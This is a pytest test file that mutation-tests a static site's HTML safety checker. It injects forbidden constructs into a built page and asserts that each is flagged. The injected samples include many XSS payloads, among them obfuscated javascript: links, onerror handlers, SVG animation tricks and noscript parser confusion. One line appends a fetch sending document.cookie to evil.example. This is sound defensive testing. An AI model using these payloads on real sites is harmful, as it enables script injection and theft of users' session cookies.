"""Mutation check of the page check (generator/site/verify.py): each forbidden construct it
knows, injected into a copy of a real built page, makes ``verify_site`` fail naming it on that
page; the pages as built pass. A check that stopped looking for one construct fails here.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from conftest import make_root
from generator.site.build import Progress, build_site
from generator.site.verify import scan_html, verify_site

PAGE = "projects/KT-2021-001.html"  # an entry page: the theme's chrome, links, tables, the body

# (name, what is injected before </body>, part of the finding that names it)
MUTATIONS = [
    ("inline script", "<script>alert(1)</script>", "未知内联脚本"),
    ("script from another host", '<script src="http://evil.example/x.js"></script>', "不是主题脚本"),
    ("theme script with a body", '<script src="../assets/search/search.js">alert(1)</script>', "不是主题脚本"),
    ("script with attributes", '<script nonce="x">var a=1</script>', "未知内联脚本"),
    ("broken JSON block", '<script type="application/json">{"a": </script>', "不是合法 JSON"),
    ("event handler", '<p onclick="alert(1)">x</p>', "<p onclick=…> 事件属性"),
    ("event handler, upper case", '<IMG SRC="x.png" ONERROR="alert(1)">', "<img onerror=…> 事件属性"),
    ("javascript: link", '<a href="javascript:alert(1)">x</a>', "危险地址"),
    ("javascript: as entities", '<a href="&#106;ava&#x73;cript:alert(1)">x</a>', "危险地址"),
    ("javascript: with a tab", '<a href="java\tscript:alert(1)">x</a>', "危险地址"),
    ("data: image", '<img src="data:image/svg+xml,%3Csvg%20onload=alert(1)%3E">', "危险地址"),
    ("vbscript: link", '<a href="vbscript:msgbox(1)">x</a>', "危险地址"),
    ("remote image", '<img src="http://evil.example/a.png">', "外部资源"),
    ("protocol-relative image", '<img src="//evil.example/a.png">', "外部资源"),
    ("remote srcset", '<img srcset="a.png 1x, https://evil.example/b.png 2x">', "外部资源"),
    ("remote style sheet", '<link rel="stylesheet" href="https://cdn.example/x.css">', "外部资源"),
    ("form to another host", '<form action="http://evil.example/"><input name="q"></form>', "<form> 不允许"),
    ("iframe", '<iframe src="a.html"></iframe>', "<iframe> 不允许"),
    ("object", '<object data="x.swf"></object>', "<object> 不允许"),
    ("embed", '<embed src="x.swf">', "<embed> 不允许"),
    ("base", '<base href="http://evil.example/">', "<base> 不允许"),
    ("portal", '<portal src="a.html"></portal>', "<portal> 不允许"),
    ("xmp", "<xmp><img src=x onerror=alert(1)></xmp>", "<xmp> 不允许"),
    ("noembed", "<noembed>x</noembed>", "<noembed> 不允许"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=http://evil.example/">', "refresh 跳转"),
    ("CSS url() in a style attribute", '<div style="background:url(http://evil.example/a.png)">x</div>', "样式引用外部资源"),
    ("CSS url() in an SVG attribute", '<svg><rect fill="url(http://evil.example/#g)"/></svg>', "样式引用外部资源"),
    ("CSS @import", '<style>@import "http://evil.example/x.css";</style>', "样式引用外部资源"),
    ("CSS escape", '<div style="background:u\\72l(x.png)">x</div>', "样式含转义或注释"),
    ("CSS expression()", '<div style="width:expression(alert(1))">x</div>', "样式引用外部资源"),
    ("SVG set", '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>', "<set> 不允许"),
    ("SVG animate", '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', "<animate> 不允许"),
    ("SVG animateTransform", '<svg><animateTransform attributeName="transform"/></svg>', "<animatetransform> 不允许"),
    ("SVG foreignObject", "<svg><foreignObject><p>x</p></foreignObject></svg>", "<foreignobject> 不允许"),
    ("reserved id __config", '<div id="__config">{}</div>', "占用了主题保留的 id"),
    ("reserved id __search", '<p id="__search">x</p>', "占用了主题保留的 id"),
    ("reserved nav id on a div", '<div id="__nav_1">x</div>', "占用了主题保留的 id"),
    ("odd comment", "<!--><img src=x>-->", "异常的 HTML 注释"),
    ("markup hidden from a parser in <noscript>",
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>', "onerror"),
    ("dead internal link", '<a href="../projects/KT-1999-001.html">x</a>', "站内链接指向不存在的文件"),
]


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("pagecheck")
    out = tmp / "site"
    build_site(make_root(tmp), out=out, build_dir=tmp / "build", progress=Progress(False), pdf=False, workers=1)
    return out


@pytest.fixture
def copy(site, tmp_path) -> Path:
    target = tmp_path / "site"
    shutil.copytree(site, target, symlinks=True)
    return target


def _findings(site: Path, rel: str) -> list[str]:
    return [f.problem for f in verify_site(site, workers=1).findings if f.file == rel]


def test_the_pages_as_built_pass(site):
    check = verify_site(site, workers=1)
    assert check.ok and check.files > 50, check.findings[:5]
    page = (site / PAGE).read_text(encoding="utf-8")
    assert scan_html(page)[0] == []
    assert "<script" in page and "qc-breadcrumb" in page  # a real page: the theme's scripts, our markup


@pytest.mark.parametrize("name, injected, named", MUTATIONS, ids=[m[0] for m in MUTATIONS])
def test_each_forbidden_construct_fails_the_check(copy, name, injected, named):
    page = copy / PAGE
    html = page.read_text(encoding="utf-8")
    assert html.count("</body>") == 1
    page.write_text(html.replace("</body>", injected + "</body>"), encoding="utf-8")
    found = _findings(copy, PAGE)
    assert any(named in problem for problem in found), found


def test_a_page_without_its_content_security_policy_fails(copy):
    page = copy / PAGE
    html = page.read_text(encoding="utf-8")
    start = html.index('<meta http-equiv="content-security-policy"')
    page.write_text(html[:start] + html[html.index(">", start) + 1:], encoding="utf-8")
    assert any("Content-Security-Policy" in p for p in _findings(copy, PAGE))


def test_a_changed_search_script_and_an_unsafe_svg_fail(copy):
    script = copy / "assets/search/search.js"
    script.write_bytes(script.read_bytes() + b"\nfetch('http://evil.example/?'+document.cookie);\n")
    (copy / "files").mkdir(exist_ok=True)
    (copy / "files/x.svg").write_bytes(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    problems = {f.file: f.problem for f in verify_site(copy, workers=1).findings}
    assert "与 generator/search/assets 中的文件不一致" in problems["assets/search/search.js"]
    assert problems["files/x.svg"].startswith("SVG 不安全")


def test_text_attributes_may_hold_backslashes_css_attributes_may_not():
    """A project titled "反斜杠 \\1 /* 注释" appears in <option label> and data-name on the
    form pages: text, which no browser reads as CSS. In style or an SVG paint it is refused."""
    from generator.site.verify import check_start

    title = r"反斜杠 \1 \g<0> /* 注释 (试验)"
    for name in ("label", "data-name", "title", "alt", "aria-label", "value"):
        assert check_start("option", [(name, title)])[0] == [], name
    for tag, name, value in (("rect", "fill", r"u\72l(x)"), ("div", "style", r"background:u\72l(x)"),
                             ("path", "filter", r"url(\68ttp://x)"), ("div", "data-x", "")):
        problems = check_start(tag, [(name, value)])[0]
        assert bool(problems) == bool(value), (tag, name, value, problems)
